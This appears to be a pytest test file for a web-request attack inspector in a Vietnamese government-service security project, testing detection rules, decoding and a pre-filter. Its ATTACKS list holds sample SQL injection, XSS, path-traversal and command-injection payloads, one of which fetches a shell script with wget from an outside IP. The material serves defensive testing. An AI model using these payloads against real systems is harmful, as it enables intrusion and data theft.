import csv
import html
import random
import re
from collections import Counter
from pathlib import Path
from urllib.parse import parse_qsl, quote, unquote_plus

import pytest

from tinhso.soc.inspection import RULES, Inspector, decode, required_literals
from tinhso.soc.parsing import parse_combined

BENIGN_VI = [
    "Đăng ký khai sinh",
    "dang ky khai sinh",
    "Nguyễn Văn A",
    "Số 12/3, ngõ 45, đường Lê Lợi, phường Hồng Bàng",
    "Thôn 3, xã An Lão / huyện An Lão",
    "H31.05-250101-0001",
    "Lê Thị Hoa; Nguyễn Văn Bình",
    "Ông Nguyễn Văn Tý & bà Lê Thị Mai",
    'Tôi muốn hỏi: thủ tục "đăng ký thường trú" cần gì?',
    "Select giấy tờ từ danh sách",
    "100% vốn nhà nước",
    "Đơn đề nghị — bản chính + 02 bản sao",
]

ATTACKS = [
    ("' or '1'='1", "sqli"),
    ("1 UNION/**/SELECT username, password FROM core_user", "sqli"),
    ("1; DROP TABLE dossiers", "sqli"),
    ("1 and sleep(5)", "sqli"),
    ("<script>alert(1)</script>", "xss"),
    ('<svg/onload=alert("x")>', "xss"),
    ("JaVaScRiPt:alert(document.cookie)", "xss"),
    ("../../../etc/passwd", "path-traversal"),
    ("....//....//etc/shadow", "path-traversal"),
    ("1; cat /etc/hosts", "cmdi"),
    ("$(wget http://203.0.113.5/a.sh)", "cmdi"),
]


@pytest.mark.parametrize("value", BENIGN_VI)
def test_benign_vietnamese_input_does_not_trigger_at_paranoia_1(value):
    verdict = Inspector().inspect(
        url="/thu-tuc/?q=" + quote(value) + "&id=5&ma=" + quote(value), user_agent="Mozilla/5.0"
    )
    assert verdict.score == 0, verdict.rule_ids
    form = Inspector().inspect(
        url="/ho-so/nop/", values=[value], method="POST", user_agent="Mozilla/5.0"
    )
    assert not form.is_attack


@pytest.mark.parametrize(("value", "category"), ATTACKS)
def test_attacks_reach_the_threshold_with_the_right_category(value, category):
    verdict = Inspector().inspect(url="/thu-tuc/?q=" + quote(value), user_agent="Mozilla/5.0")
    assert verdict.is_attack
    assert category in verdict.categories


def test_repeated_percent_encoding_is_decoded():
    triple = quote(quote(quote("<script>")))
    assert decode(triple) == "<script>"
    assert Inspector().inspect(url=f"/x?a={triple}alert(1)").is_attack


def test_scanner_user_agent_and_protocol_anomalies():
    assert "scanner" in Inspector().inspect(url="/", user_agent="sqlmap/1.8#stable").categories
    assert Inspector().inspect(url="/x%00.php", user_agent="Mozilla/5.0").is_attack
    odd = Inspector().inspect(url="/", method="PROPFIND", user_agent="Mozilla/5.0")
    assert odd.rule_ids == [6002] and not odd.is_attack


def test_paranoia_level_adds_stricter_rules():
    value = "/x?note=" + quote("<b>in đậm</b>")
    assert Inspector(paranoia=1).inspect(url=value, user_agent="Mozilla/5.0").score == 0
    assert Inspector(paranoia=2).inspect(url=value, user_agent="Mozilla/5.0").score == 3
    assert Inspector(paranoia=2, threshold=3).inspect(url=value, user_agent="Mozilla/5.0").is_attack
    assert (
        not Inspector(paranoia=2).inspect(url="/", user_agent="").is_attack
    )  # missing UA is a notice


def test_rule_ids_are_unique_and_levels_valid():
    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids))
    assert all(1 <= r.paranoia <= 4 and r.score in (2, 3, 4, 5) for r in RULES)


def test_huge_input_is_bounded():
    verdict = Inspector().inspect(url="/x?q=" + "a" * 1_000_000 + "&" * 10_000)
    assert verdict.score == 0


# --- The pre-filter never hides a match --------------------------------------------------

DATA = Path(__file__).parent / "data"
SHARED = Path(__file__).resolve().parents[4] / "shared" / "data" / "soc" / "http-params-train.csv"


def _payloads(every: int = 8) -> list[str]:
    """The own payloads and every ``every``-th row of the shared set (all of it is
    compared by ``bench/soc_inspection_check.py``)."""
    csv.field_size_limit(1024 * 1024)
    values = list(BENIGN_VI) + [v for v, _ in ATTACKS]
    with open(DATA / "vi-params.csv", encoding="utf-8", newline="") as fh:
        values += [row["payload"] for row in csv.DictReader(fh)]
    if SHARED.is_file():
        with open(SHARED, encoding="utf-8", errors="replace", newline="") as fh:
            values += [row["payload"] for row in csv.DictReader(fh)][::every]
    return values


def _mutations(values: list[str], n: int = 800) -> list[str]:
    """Case, spacing, encoding and splicing variants of the payloads (seeded)."""
    rng = random.Random(20261122)
    out = []
    for _ in range(n):
        a, b = rng.choice(values), rng.choice(values)
        v = a[: rng.randint(0, len(a))] + b[rng.randint(0, len(b)) :]
        v = "".join(c.upper() if rng.random() < 0.3 else c for c in v)
        if rng.random() < 0.3:
            v = v.replace(" ", rng.choice(["\t", "\n", "\xa0", "  ", "/**/", "+", "%20"]))
        if rng.random() < 0.3:
            v = quote(v, safe=rng.choice(["", "/", "=&"]))
        out.append(v)
    return out


@pytest.fixture(scope="module")
def corpus() -> list[str]:
    values = _payloads()
    return values + _mutations(values)


def _requests(values):
    for v in values:
        yield {"url": "/tim-kiem?q=" + quote(v, safe=""), "user_agent": "Mozilla/5.0"}
        yield {"url": "/" + v, "user_agent": v, "method": "POST", "values": [v]}
        yield {"url": "/ho-so/?a=" + v + "&" + v, "user_agent": "", "method": v[:7]}
    with open(DATA / "access.log", "rb") as fh:
        for raw in fh:
            ev = parse_combined(raw.decode("utf-8", "replace").rstrip("\n"))
            if ev is not None:
                yield {"url": ev.url, "user_agent": ev.user_agent, "method": ev.method}


@pytest.mark.parametrize("paranoia", [1, 3])  # level 2's rules are a subset of level 3's
def test_prefiltered_verdicts_equal_the_full_rule_set(corpus, paranoia):
    fast = Inspector(paranoia=paranoia)
    full = Inspector(paranoia=paranoia, prefilter=False)
    checked = attacks = 0
    for request in _requests(corpus):
        want = full.inspect(**request)
        for _ in range(2):  # the second answer comes from the cache
            got = fast.inspect(**request)
            assert (got.rule_ids, got.score) == (want.rule_ids, want.score), request
        checked += 1
        attacks += want.is_attack
    assert checked > 1500 and attacks > 100  # the corpus exercises the rules


def test_every_match_holds_one_string_of_each_required_clause(corpus):
    """The analysis behind the pre-filter, checked rule by rule on the matches found."""
    inspector = Inspector(paranoia=4, prefilter=False)
    required = {
        rule.id: required_literals(rule.pattern, folded=rule.targets in ("args", "ua"))
        for rule in RULES
    }
    matched = Counter()
    for request in _requests(corpus):
        targets = inspector.targets(
            url=request["url"],
            user_agent=request["user_agent"],
            method=request.get("method", "GET"),
        )
        targets["args"].extend(decode(v) for v in request.get("values", ()) if v)
        for rule in RULES:
            clauses = required[rule.id]
            for target in targets[rule.targets]:
                if rule.pattern.search(target):
                    matched[rule.id] += 1
                    for clause in clauses:
                        assert any(s in target for s in clause), (rule.id, target, clause)
    assert len(matched) >= 25  # most rules matched something


def test_required_literals_of_simple_patterns():
    def clauses(pattern, flags=0, folded=False):
        return {frozenset(c) for c in required_literals(re.compile(pattern, flags), folded=folded)}

    # \s is a space only in folded targets (decoded arguments, user agents)
    assert clauses(r"\bunion\s+select\b", folded=True) == {
        frozenset({"union "}),
        frozenset({" select"}),
        frozenset({" "}),
    }
    assert clauses(r"\bunion\s+select\b") == {frozenset({"union"}), frozenset({"select"})}
    assert clauses(r"ab|cd") == {frozenset({"ab", "cd"})}
    assert frozenset({"../"}) in clauses(r"\.{2,}/")
    assert clauses(r"a.*b") == {frozenset({"a"}), frozenset({"b"})}
    assert clauses(r"x(?:yz)?w") == {frozenset({"xw", "xyzw"})}
    # nothing known: the rule always runs
    assert clauses(r"^$") == set()
    assert clauses(r"\w+") == set()
    assert clauses(r"abc", re.IGNORECASE) == set()
    assert clauses(r"(?:ab)?c*") == set()


def test_decode_equals_the_plain_definition(corpus):
    def reference(value, rounds=4):
        value = value[:4096]
        for _ in range(rounds):
            new = html.unescape(unquote_plus(value, errors="replace"))
            if new == value:
                break
            value = new
        value = re.sub(r"/\*!?\d*|\*/", " ", value.lower())
        return re.sub(r"\s+", " ", value).strip()

    for value in [*corpus, "a\x1cb\u2028c\u3000d", " \t x \n", "/*!50000union*/", "%2F%2A"]:
        assert decode(value) == reference(value), value


def test_cached_verdicts_are_separate_objects_and_long_urls_bypass_the_cache():
    inspector = Inspector()
    url = "/tim-kiem?q=" + quote("' or 1=1 --")
    first = inspector.inspect(url=url, user_agent="Mozilla/5.0")
    first.matched.clear()
    again = inspector.inspect(url=url, user_agent="Mozilla/5.0")
    assert again.is_attack and again.rule_ids
    long_url = "/x?q=" + "a" * 600 + quote("<script>")
    assert inspector.inspect(url=long_url).is_attack
    assert inspector._url_rules.cache_info().currsize == 1


def test_arguments_are_what_parse_qsl_gives(corpus):
    def reference(url):
        path, _, query = url.partition("?")
        args = [decode(path)]
        for name, value in parse_qsl(query, keep_blank_values=True)[:64]:
            args.append(decode(name))
            if value:
                args.append(decode(value))
        return [a for a in args if a]

    urls = ["/x?a=1&&b&=c&d=e=f&+x+=%2B&%zz=%C3", "/x?" + "&".join(f"k{i}=v" for i in range(100))]
    for v in corpus[:2000]:
        urls += ["/tim-kiem?q=" + quote(v, safe=""), "/p?" + v, "/a%20b/?" + v + "&x=" + v]
    for url in urls:
        assert Inspector._args(url) == reference(url), url
